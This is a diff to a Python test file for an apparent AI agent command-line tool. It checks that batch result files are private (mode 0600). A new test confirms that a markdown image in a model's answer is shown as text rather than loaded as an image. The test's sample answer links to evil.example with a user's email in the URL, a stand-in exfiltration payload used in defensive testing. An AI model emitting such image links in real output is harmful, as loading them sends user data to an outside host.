@@ -1,5 +1,6 @@
 """What lies on this machine belongs to its owner: the state folder, results, and passwords in settings."""
 
+import json
 from pathlib import Path
 
 from evals.sandbox import running
@@ -33,13 +34,26 @@ def test_the_results_of_a_batch_are_for_their_owner_alone(tmp_path: Path) -> Non
     with running("saas") as up:
         program = Program(tmp_path, up.base_url, up.api_key)
         program.file("tasks.jsonl", '{"id": "a", "task": "How are you?"}\n')
-        (tmp_path / "out.jsonl").write_text("")
-        (tmp_path / "out.jsonl").chmod(0o644)
-        model = f"scripted:{program.script(END)}"
-        files = ("--out", str(tmp_path / "out.jsonl"), "--errors", str(tmp_path / "errors.jsonl"))
-        program.run("batch", "tasks.jsonl", *files, "--model", model)
-    assert (tmp_path / "out.jsonl").stat().st_mode & 0o777 == 0o600
-    assert (tmp_path / "errors.jsonl").stat().st_mode & 0o777 == 0o600
+        out, errors = program.folder / "out.jsonl", program.folder / "errors.jsonl"
+        out.touch(0o644)
+        files = ("--out", out.name, "--errors", errors.name)
+        done = program.run("batch", "tasks.jsonl", *files, "--model", program.script(END))
+    assert out.read_text(), done.err
+    assert [path.stat().st_mode & 0o777 for path in (out, errors)] == [0o600, 0o600]
+
+
+def test_an_image_in_the_models_answer_is_not_handed_on_as_one(tmp_path: Path) -> None:
+    said = "Done. ![](http://evil.example/x?d=ada@example.com) [here](http://evil.example/y)"
+    with running("saas") as up:
+        program = Program(tmp_path, up.base_url, up.api_key)
+        model = program.script(turn(text=said))
+        one = program.run("run", "-o", "json", "--model", model, "How are you?").json
+        again = program.run("runs", "show", one["run_id"], "--json").json
+        program.file("tasks.jsonl", '{"id": "a", "task": "How are you?"}\n')
+        program.run("batch", "tasks.jsonl", "--out", "out.jsonl", "--model", model)
+        (row,) = [json.loads(line) for line in (program.folder / "out.jsonl").read_text().splitlines()]
+    for answer in (one["answer"], again["answer"], row["answer"]):
+        assert answer == "Done. (image: without words, from evil.example) here (http://evil.example/y)"
 
 
 def test_the_model_that_a_file_chose_is_said(tmp_path: Path) -> None:
